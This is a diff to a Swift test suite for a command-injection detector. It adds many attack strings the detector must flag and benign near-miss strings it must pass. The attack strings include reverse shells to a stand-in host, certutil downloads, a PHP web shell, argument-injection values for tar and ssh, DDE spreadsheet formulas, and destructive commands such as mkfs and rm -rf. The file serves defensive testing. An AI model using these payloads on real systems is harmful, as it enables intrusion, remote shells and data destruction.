@@ -104,9 +104,13 @@ import Testing
         "x & schtasks /query", "x & sc query", "x & net view", "x & taskkill /f /im x.exe", "x & del /f /q c:\\x",
         "x & more c:\\boot.ini", "x & ver", "x;cat${IFS:0:1}/etc/group", "x;$0 -c id", "x;sh -c 'id'",
         "x;bash -c \"$(echo aWQ=|base64 -d)\"", "() { :; }; /bin/bash -c id", "x;python -m http.server 8000",
+        // a code span glued to a word is not prose markup
+        "a `uname -a`x and some more words",
+        // recon tools alike (dmidecode was listed both strong and args-only; the later won)
+        "x; dmidecode", "x; lshw",
     ]
 
-    @Test(arguments: attacks)
+    @Test(arguments: attacks + moreAttacks)
     func detects(_ payload: String) {
         #expect(Self.classes(payload).contains(.cmdi), "cmdi missed: \(payload)")
     }
@@ -128,10 +132,129 @@ import Testing
         "50%: ~half", "ratio 3:~4", "env: production", "$env is set", "call me; sleep tight", "IEX (Investors Exchange) listing",
         "{view,edit,delete}", "{install,remove}", "view; install", "Quick links; view all", "Plan: red | green",
         "Note; see -- /etc is a folder", "mode; -v for verbose",
+        // a tool's verb only as a whole word
+        "Thanks; net used for fishing", "see above; reg queryable fields", "ps: auxiliary notes; ps auxiliaries",
     ]
 
-    @Test(arguments: nearMisses)
+    @Test(arguments: nearMisses + moreNearMisses)
     func passes(_ payload: String) {
         #expect(!Self.classes(payload).contains(.cmdi), "flagged: \(payload)")
+    }
+
+    /// Seventh batch, written for the generalization pass from the technique families rather than
+    /// from any corpus miss: more of the recon vocabulary, Windows program names and switches,
+    /// compound commands, command lines handed to other commands, history and `.` sourcing,
+    /// argument injection into ordinary tools, reverse shells wherever they stand, network tools
+    /// given a host, subcommand tools, prefixes with options, and cmd.exe verbs with objects.
+    static let moreAttacks: [String] = [
+        // recon vocabulary
+        "x;df -h", "x;du -sh /var", "x;free -m", "x;lsblk", "x;getconf -a", "x;pstree", "x;md5sum /etc/group",
+        "x & getmac", "x & driverquery", "x & gpresult /r", "x;ip a", "x;ip addr show", "x | ip route", "ip addr",
+        // Windows programs by file name, UNC and variable paths, switches glued to the name
+        "x & certutil.exe -urlcache -split -f http://e.example/a.exe", "x & payload.exe",
+        "| \\\\10.0.0.5\\s\\nc.exe -e cmd.exe 10.0.0.5 4444", "x & %TEMP%\\x.exe", "x && \\\\e.example\\share\\run.bat",
+        "x & whoami/priv", "x&dir/s", "x|ipconfig/all", "x & tasklist/v",
+        // compound commands
+        "x;for i in 1 2; do id; done", "x;while true; do sleep 5; done", "x;if [ -f /etc/group ]; then id; fi",
+        // a command line given to another command
+        "x;trap 'rm -rf /tmp/x' EXIT", "x;at 2:00 \"echo hi\"", "x;eval 'cat /etc/group'", "x;su -c 'id'", "x;eval id",
+        // history, sourcing, a shell fed on its input, ANSI-C escapes
+        "x;!!", "x; !-2", "x|!5", "x;. /tmp/x", "x;. ~/.profile", "x;$0<<<id", "x;$'\\151\\144'",
+        // argument injection
+        "--checkpoint=1 --checkpoint-action=exec=sh x.sh", "-oProxyCommand=\"sh -c id\" a@b", "--upload-pack=touch /tmp/x",
+        "--use-compress-program=id", "-OQueueDirectory=/tmp -X/var/www/html/x.php", "-exec id ;", "--to-command=id",
+        "x -o ProxyCommand=id y",
+        // netcat told to run a program, wherever it stands
+        "a b ncat 10.0.0.5 4444 -e /bin/bash", "nc.exe 10.0.0.5 443 -e cmd.exe",
+        // network tools given a host, markers, subcommand tools
+        "x;host e.example", "x;whois e.example", "x;ssh localhost id", "x;ping localhost", "x;echo pwned", "x;printf pwned",
+        "x;git clone https://e.example/x", "x;docker run -v /:/mnt alpine", "x;tar czf /tmp/a.tgz /etc", "x;tmux new -d id",
+        // prefixes with options, programs under a variable directory
+        "x;stdbuf -o0 id", "x;taskset 1 id", "x;nice -n 19 id", "x;setarch x86_64 id", "x;$HOME/x.sh", "x;${TMPDIR}/run",
+        // cmd.exe verbs with their objects, writes to a script or text file, start
+        "x & route print", "x & query user", "x & net config workstation", "x & copy con x.bat", "x & ren a.txt a.bat",
+        "x & del x.txt", "x & echo open 10.0.0.5 21> ftp.txt", "x;echo '<?php system($_GET[1]);' > s.php",
+        "x & start calc", "x & start /b x.exe", "x & start cmd",
+        // brace expansion of a path, a substitution that runs a variable
+        "x;{/bin/sh,-c,id}", "$($c)", "<?=`$_GET[0]`?>",
+        // whole values
+        "df -h", "free -m", "ps aux", "find / -name passwd", "find . -type f -perm -4000", "./x.sh", "rc script.sh",
+        "perl run.pl", "getmac", "driverquery", "x;fetch http://e.example/x", "x;./x", "x && ./configure --prefix=/tmp",
+        // substitutions of commands nobody lists, paths with empty and dot segments, more cmd.exe and builtins
+        "x$(frob)", "x;$(frob -x /tmp)", "a=$(frob)", "'$(frob)'", "x>(frob)", "x;/usr//bin///id", "x;/usr/./bin/./id",
+        "route print", "sc query", "x & sc qc x", "x;pushd /tmp", "x;pidof sshd", "x;mkfs.ext4 /dev/sda1",
+        "x;setenforce 0", "x;ufw disable", "x;command id", "x;pkexec id",
+        // commands run from code and documents: language calls, Ruby %x, Ghostscript %pipe%, spreadsheet DDE
+        "subprocess.getoutput('id')", "pty.spawn(\"/bin/sh\")", "Process.Start(\"cmd.exe\", \"/c whoami\")",
+        "new ProcessBuilder(\"id\").start()", "Open3.capture2(\"id\")", "%x(id)", "%x{id}", "(%pipe%id) (w) file",
+        "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    ]
+
+    /// Near misses for the seventh batch: languages and tools named in prose, Windows paths
+    /// whose `\n` unescapes to a newline, "then"/"do" in English, fractions and abbreviations
+    /// with slashes, links ending in a shell's name, jQuery, cmd.exe verbs as words.
+    static let moreNearMisses: [String] = [
+        "Perl & Python", "Java; C#; Go; Rust", "Node.js & Deno", "Python 3.12; Ruby 3.3", "sed & awk",
+        "Cat & Dog; Bird | Fish", "calc & notepad are Windows apps", "Calc.exe crashed again", "notepad.exe vs notepad++",
+        "C:\\Program Files\\nodejs\\node.exe", "C:\\temp\\new folder\\run.bat", "nodejs\\node.exe", "java\\node.exe",
+        "If you're tired; then sleep", "Mix flour; then add eggs; then bake", "Thanks for coming; do come again",
+        "ip address & subnet mask", "IP route planning", "Tom's \"best\" pizza; open 24/7", "Results: 5/10; 24/7 support",
+        "sleep 8 hours; drink water", "ping 8.8.8.8 returns fine; DNS is slow", "`npm run build` failed; see log",
+        "see /r/linux; /r/bash", "$($el).hide()", "host: e.example; user: bob", "start menu; control panel",
+        "start date & end date", "Session started at 12:00 & ended at 13:00", "w/ friends; w/o kids", "CD/DVD drive",
+        "PS/2 keyboard", "cat/dog lovers; bird people", "Q&A; copy & paste", "Step 1; copy the file",
+        "Meeting at 10:00; then lunch at 12:00", "eval: 95%; test: 90%", "Hello\\nWorld", "Name:\\nBob\\nAge:\\n42",
+        "the file ./config is missing; check ./logs", "Run ./configure then make", "Home | Cat Toys | Dog Beds",
+        "$USD/EUR rate; see chart", "Physics & Calc", "Tags: docker; git; npm", "Plan A | Plan B; plan C",
+        "Mum; Dad; Sis & Bro", "I'm free; call me", "Download the setup; run it", "report|final.pdf", "backup;2024.tar.gz",
+        "ren faire & fair; see you", "del Mar; del Rey", "Move fast & break things; move on", "Rename the file; copy it",
+        "query: users; sort: name", "Route 66; route planning", "Echo Park; Echo chamber",
+        "| Name | Type |\n|------|------|\n| id | int | https://maps.example.com/",
+        "route print & scan documents", "query user & group info", "Use $(selector) to find elements", "$(this).toggle()",
+        "$(window).on('load', f)", "Version $(Build.BuildNumber)", "all: $(OBJ)", "x = $(wildcard *.c)",
+        "Command center; builtin oven", "Sync & backup; factor in costs",
+        "Terms | 'quoted' text", "=SUM(A1:A3)", "=HYPERLINK(\"https://e.example\")", "Process started; system design",
+        "Open3 is a Ruby module", "printf('%x(%d)', a, b)", "-2+3 = 1 | 'ok'", "Q: what is DDE? A: dynamic data exchange",
+    ]
+
+    /// Values inside structured text: XML attribute values and text nodes of an XML body, and
+    /// `key=value` pairs inside a header such as a Referer. (location, header or content type, payload)
+    static func eventClasses(_ location: String, _ extra: String, _ payload: String) -> Set<DetectorClass> {
+        let sample = CorpusSample(
+            id: "variant", label: "cmdi", location: location, payload: payload, encoded: nil, part: nil, param: "q",
+            header: location == "header" ? extra : nil, contentType: location == "body" ? extra : nil, source: "test")
+        let r = Inspector().inspect(event: EventBuilder.bytes(EventBuilder.v2(sample)))
+        return Set(r.findings.map(\.detectorClass))
+    }
+
+    static let structuredAttacks: [(String, String, String)] = [
+        ("body", "application/xml", "<a probe=\"~+\"></a>"), ("body", "application/xml", "<a probe=\"~-1\"/>"),
+        ("body", "application/xml", "<a probe=\"!-2\"/>"), ("body", "application/xml", "<root><cmd>ls -la /etc</cmd></root>"),
+        ("body", "text/xml", "<r x=\"uname -a\"/>"), ("header", "referer", "https://e.example/?args=perf --version"),
+        ("header", "referer", "https://e.example/?x=cat /etc/group"), ("header", "x-test", "q=uname -a"),
+        ("query", "", "~2"), ("query", "", "!-1"),
+    ]
+
+    @Test func detectsInStructuredText() {
+        for (location, extra, payload) in Self.structuredAttacks {
+            #expect(Self.eventClasses(location, extra, payload).contains(.cmdi), "cmdi missed: \(payload)")
+        }
+    }
+
+    static let structuredNearMisses: [(String, String, String)] = [
+        ("body", "application/xml",
+         "<?xml version=\"1.0\"?><order><item sku=\"A-1\" qty=\"2\">Cat food</item><note>Leave at door; thanks</note></order>"),
+        ("body", "application/xml", "<root><cmd>help</cmd><mode>list</mode><q>ping pong</q><t>sleep well</t></root>"),
+        ("body", "application/xml", "<svg><text x=\"10\" y=\"20\">~-1 approx</text></svg>"),
+        ("body", "application/xml", "<p>Wow!!</p>"), ("header", "referer", "https://e.example/search?q=cat+videos&page=2"),
+        ("header", "referer", "https://e.example/?cmd=help&id=5"), ("header", "accept", "text/html;q=0.9,*/*;q=0.8"),
+        ("header", "forwarded", "for=192.0.2.4;proto=https"), ("header", "x-test", "a=who&b=type&mode=find"),
+        ("header", "referer", "https://e.example/?next=/admin/users&tab=groups"), ("query", "", "~ 5"), ("query", "", "!!"),
+    ]
+
+    @Test func passesStructuredText() {
+        for (location, extra, payload) in Self.structuredNearMisses {
+            #expect(!Self.eventClasses(location, extra, payload).contains(.cmdi), "flagged: \(payload)")
+        }
     }
 }
